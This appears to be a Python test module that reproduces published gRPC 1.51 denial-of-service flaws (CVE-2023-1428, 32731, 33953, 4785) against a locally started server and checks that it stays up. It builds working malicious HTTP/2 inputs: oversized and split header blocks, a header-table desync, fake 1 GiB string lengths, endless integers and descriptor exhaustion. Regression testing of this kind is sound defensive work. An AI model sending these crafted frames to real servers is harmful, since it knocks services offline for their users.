"""The published weaknesses of gRPC 1.51, each as somebody would use it. SECURITY.md says what stops it, or what does not.

CVE-2023-44487 (rapid reset) is a flood: floods.py.
"""
import time

from h2 import (CONTINUATION, END_HEADERS, END_STREAM, HEADERS, Peer, block, call, frame, integer, literal, message, request)
from server import EMPTY, Neighbour, Server


def is_served(server):
    with Peer(server.port) as peer:
        peer.send(call(1, request(EMPTY), message()))
        return peer.outcome() == "grpc 0"


def cve_2023_1428(server, tell, scale):
    """A header that C-core knows with a value that it does not, before headers that are too large: it ended itself."""
    for name, value in (("te", "x"), (":scheme", "x"), ("grpclb_client_stats", "x")):
        for size in (9000, 15000):
            with Peer(server.port) as peer:
                headers = [(key, text) for key, text in request(EMPTY) if key != name] + [(name, value), ("x-much", "m" * size)]
                peer.send(call(1, headers, message()))
                peer.outcome(1, 3)
            tell(server.is_up() and is_served(server), f"{name}: {value} and {size} bytes more ended the server")


def cve_2023_32731(server, tell, scale):
    """Headers that are too large, with one that goes into the table: the table is then another on the two sides, and what
    the next call says by index is another header. Right is that this header arrives as it was, or that the connection
    ends."""
    with Peer(server.port) as peer:
        kept = literal("x-grpc-test-echo-initial", "kept", 0x40)
        big = block(request(EMPTY)) + literal("x-much", "m" * 8000) * 3 + kept
        pieces = [big[at:at + 16384] for at in range(0, len(big), 16384)]
        peer.send(frame(HEADERS, 0, 1, pieces[0]) + b"".join(
            frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, 1, piece) for piece in pieces[1:]))
        first = peer.outcome(1, 3)
        unary = "/grpc.testing.TestService/UnaryCall"
        peer.send(frame(HEADERS, END_HEADERS, 3, block(request(unary)) + integer(62, 7, 0x80)) + frame(0, END_STREAM, 3, message()))
        outcome = peer.outcome(3, 3)
        echoed = peer.headers.get(3, {}).get("x-grpc-test-echo-initial")
        tell(outcome != "grpc 0" or echoed == "kept",
             f"after {first}, the header at index 62 was {echoed!r}, right is 'kept' or no call")


def cve_2023_33953(server, tell, scale):
    """Header blocks that make the parser hold, or copy, what it will not take: a string that says it is of 1 GiB, a number
    that goes on with zeros, and a string in pieces of one byte."""
    with Peer(server.port) as peer:
        peer.send(frame(HEADERS, 0, 1, block(request(EMPTY)) + b"\x00" + integer(6, 7) + b"x-much" + integer(1 << 30, 7)))
        peer.send(frame(CONTINUATION, 0, 1, b"m" * 16384) * (200 * scale), 5)
        tell(server.is_up(), "a string of 1 GiB ended the server")
    with Peer(server.port) as peer:
        peer.send(frame(HEADERS, 0, 1, block(request(EMPTY)) + b"\x00\x7f" + b"\x80" * 16000))
        peer.send(frame(CONTINUATION, 0, 1, b"\x80" * 16384) * (20 * scale), 5)
        tell(server.is_up(), "an endless number ended the server")
    with Peer(server.port) as peer:
        peer.send(frame(HEADERS, 0, 1, block(request(EMPTY)) + b"\x00" + integer(6, 7) + b"x-much" + integer(1 << 20, 7)))
        peer.send(b"".join(frame(CONTINUATION, 0, 1, b"m") for _ in range(5000)), 5)
        tell(server.is_up(), "a string in small pieces ended the server")


def cve_2023_4785(programs, tell):
    """More connections at once than the process may have descriptors: accepting failed, and was never tried again."""
    server = Server(programs, files=256)
    try:
        neighbour, peers = Neighbour(server, 20), []
        for _ in range(1000):
            try:
                peers.append(Peer(server.port))
            except OSError:
                break
        told = neighbour.end()
        tell(told["calls"] > 0 and not told["failed"], f"the neighbour's calls failed: {told}")
        for peer in peers:
            peer.socket.close()
        server.settles(40, 1 << 40)
        end = time.monotonic() + 10  # a connection may be one too many until the ends of others have been seen
        while not (served := is_served(server)) and time.monotonic() < end:
            time.sleep(0.05)
        tell(served, "the server accepts no more, until it is started again")
    finally:
        tell(server.end() == 0, "the server did not end in order")


WEAKNESSES = [("CVE-2023-1428", cve_2023_1428), ("CVE-2023-32731", cve_2023_32731), ("CVE-2023-33953", cve_2023_33953)]
